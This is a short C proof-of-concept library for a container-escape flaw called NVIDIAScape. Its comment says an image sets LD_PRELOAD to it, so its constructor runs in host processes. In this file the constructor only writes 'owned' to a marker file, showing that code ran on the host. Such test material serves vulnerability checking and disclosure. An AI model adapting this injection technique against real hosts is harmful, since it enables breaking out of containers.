/* The NVIDIAScape payload: an image sets LD_PRELOAD to this library; if any host-side
 * process loads it, its constructor writes the file named by $POC_MARKER. */
#include <stdio.h>
#include <stdlib.h>

__attribute__((constructor)) static void owned(void) {
  const char* marker = getenv("POC_MARKER");
  if (marker == NULL) return;
  FILE* f = fopen(marker, "w");
  if (f != NULL) {
    fputs("owned\n", f);
    fclose(f);
  }
}
